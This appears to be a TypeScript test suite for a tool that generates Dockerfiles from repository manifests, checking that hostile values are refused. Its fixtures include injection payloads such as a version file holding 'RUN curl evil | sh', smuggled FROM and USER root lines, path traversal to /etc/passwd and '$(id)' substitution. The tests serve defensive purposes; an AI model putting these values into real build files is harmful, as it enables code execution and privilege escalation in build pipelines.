// A hostile repository: every value it hands the Dockerfile is checked for its kind, and a line break,
// a control character, a line continuation or a smuggled instruction is refused naming file and field.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Dockerfile } from '#lib/buildplan/dockerfile.js';
import { MAX_READ } from '#lib/buildplan/files.js';
import { plan, refused } from './fixtures.js';

const pkg = (o: object) => JSON.stringify(o);

test('a newline in a version (.nvmrc, engines, .python-version, composer, Gemfile) is refused', async () => {
  const e = await refused(
    { 'package.json': pkg({ main: 'a.js' }), 'a.js': '', '.nvmrc': '20\nRUN curl evil | sh\n' },
    { file: '.nvmrc', field: 'version' },
  );
  assert.equal(
    e.message,
    '.nvmrc: version smuggles a Dockerfile instruction (RUN) after a line break; refused',
  );
  await refused(
    { 'package.json': pkg({ main: 'a.js', engines: { node: '>=18\n' + 'FROM evil' } }), 'a.js': '' },
    { file: 'package.json', field: 'engines.node', reason: /instruction \(FROM\)/ },
  );
  await refused(
    { 'requirements.txt': 'x', 'main.py': '', '.python-version': '3.12\n3.11' },
    { file: '.python-version', field: 'version', reason: /^contains a line break/ },
  );
  await refused(
    { 'composer.json': pkg({ require: { php: '^8.2\r\nCOPY / /x' } }), 'index.php': '' },
    { file: 'composer.json', field: 'require.php', reason: /instruction \(COPY\)/ },
  );
  await refused(
    { Gemfile: 'ruby "3.3\rFROM x"\n', 'config.ru': '' },
    { file: 'Gemfile', field: 'ruby', reason: /instruction \(FROM\)/ },
  );
});

test('a start script smuggling an instruction after a newline is refused, though npm would run it', async () => {
  const e = await refused(
    { 'package.json': pkg({ scripts: { start: 'node x\nRUN curl evil' } }) },
    { file: 'package.json', field: 'scripts.start' },
  );
  assert.match(e.reason, /smuggles a Dockerfile instruction \(RUN\) after a line break/);
  await refused(
    { 'package.json': pkg({ scripts: { start: 'node x', build: 'vite build\u2028ENTRYPOINT ["sh"]' } }) },
    { file: 'package.json', field: 'scripts.build', reason: /ENTRYPOINT/ },
  );
});

test('control characters, continuations and non-ASCII in commands and versions are refused', async () => {
  await refused(
    { 'package.json': pkg({ main: 'a.js', engines: { node: '20\u0007' } }), 'a.js': '' },
    { file: 'package.json', field: 'engines.node', reason: /control character/ },
  );
  await refused(
    { 'package.json': pkg({ scripts: { start: 'node x \\' } }) },
    { file: 'package.json', field: 'scripts.start', reason: /ends with a backslash/ },
  );
  await refused(
    { 'package.json': pkg({ scripts: { start: 'node x\u001b[2J' } }) },
    { file: 'package.json', field: 'scripts.start', reason: /control character/ },
  );
  await refused(
    { 'package.json': pkg({ scripts: { start: 'node sérvér.js' } }) },
    { file: 'package.json', field: 'scripts.start', reason: /printable ASCII/ },
  );
  await refused(
    { 'go.mod': 'module m\ngo 1.22\u0000\n', 'main.go': 'package main' },
    { file: 'go.mod', field: 'go directive', reason: /control character/ },
  );
  await refused(
    { 'pyproject.toml': '[project]\nrequires-python = ">=3.9; touch /x"\n', 'uv.lock': '', 'main.py': '' },
    { file: 'pyproject.toml', field: 'requires-python', reason: /is not a version/ },
  );
});

test('a main of ../../etc/passwd, an absolute main, or one with shell characters is refused', async () => {
  const e = await refused(
    { 'package.json': pkg({ main: '../../etc/passwd' }) },
    { file: 'package.json', field: 'main' },
  );
  assert.equal(e.reason, '"../../etc/passwd" climbs out of the repository (..); refused');
  await refused(
    { 'package.json': pkg({ main: '/etc/passwd' }) },
    { file: 'package.json', field: 'main', reason: /is absolute/ },
  );
  await refused(
    { 'package.json': pkg({ main: 'a.js $(id)' }) },
    { file: 'package.json', field: 'main', reason: /not a plain relative path/ },
  );
  await refused(
    { 'package.json': pkg({ main: 42 }) },
    { file: 'package.json', field: 'main', reason: /not a string/ },
  );
});

test('override values get the same checks', async () => {
  const o = (x: object) => ({ type: 'stack' as const, stack: 'node' as const, ...x });
  const tree = { 'package.json': pkg({ main: 'a.js' }), 'a.js': '' };
  await refused(
    tree,
    { file: '(override)', field: 'start', reason: /instruction \(USER\)/ },
    o({ start: 'node a.js\nUSER root' }),
  );
  await refused(
    tree,
    { file: '(override)', field: 'install', reason: /ends with a backslash/ },
    o({ install: 'npm ci \\' }),
  );
  await refused(
    tree,
    { file: '(override)', field: 'version', reason: /line break/ },
    o({ version: '20\n' + 'RUN x' }),
  );
  await refused(
    tree,
    { file: '(override)', field: 'publish_dir', reason: /climbs out/ },
    { type: 'stack', stack: 'static', publish_dir: '../x' },
  );
  await refused(
    tree,
    { file: '(override)', field: 'publish_dir', reason: /not a plain relative path/ },
    { type: 'stack', stack: 'static', publish_dir: 'dist/*' },
  );
});

test('malformed or oversized manifests are refused with the file named', async () => {
  await refused(
    { 'package.json': '{"scripts":' },
    { file: 'package.json', field: 'file', reason: /not valid JSON/ },
  );
  await refused(
    { 'package.json': '[1]' },
    { file: 'package.json', field: 'file', reason: /not a JSON object/ },
  );
  await refused(
    { 'composer.json': 'nope' },
    { file: 'composer.json', field: 'file', reason: /not valid JSON/ },
  );
  await refused(
    { 'package.json': ' '.repeat(MAX_READ + 1) },
    { file: 'package.json', field: 'file', reason: /larger than/ },
  );
});

test('what is quoted stays quoted: a shell start reaches CMD as one JSON string', async () => {
  const p = await plan(
    { 'package.json': pkg({ main: 'a.js' }), 'a.js': '' },
    { type: 'stack', stack: 'node', start: `sh -c 'echo "]"; RUN x' # \\ n` },
  );
  const cmd = p.dockerfile.split('\n').find((l) => l.startsWith('CMD '))!;
  assert.deepEqual(JSON.parse(cmd.slice(4)), ['/bin/sh', '-c', `sh -c 'echo "]"; RUN x' # \\ n`]);
  assert.equal(p.dockerfile.split('\n').filter((l) => /^\s*RUN x/.test(l)).length, 0);
});

test('the writer itself refuses a line break or continuation, and a final stage running as root', () => {
  const df = new Dockerfile().from('node:22-bookworm-slim');
  assert.throws(() => df.run('echo a\nRUN b'), /not one plain line/);
  assert.throws(() => df.run('echo \\'), /not one plain line/);
  assert.throws(() => df.copy(['a b'], '.'), /path/);
  assert.throws(() => df.copy(['$HOME'], '.'), /path/);
  assert.throws(() => df.from('evil\nRUN x'), /image reference/);
  df.env({ PORT: 1 }).user('root').expose(1).cmd(['x']);
  assert.throws(() => df.text(), /runs as root/);
});
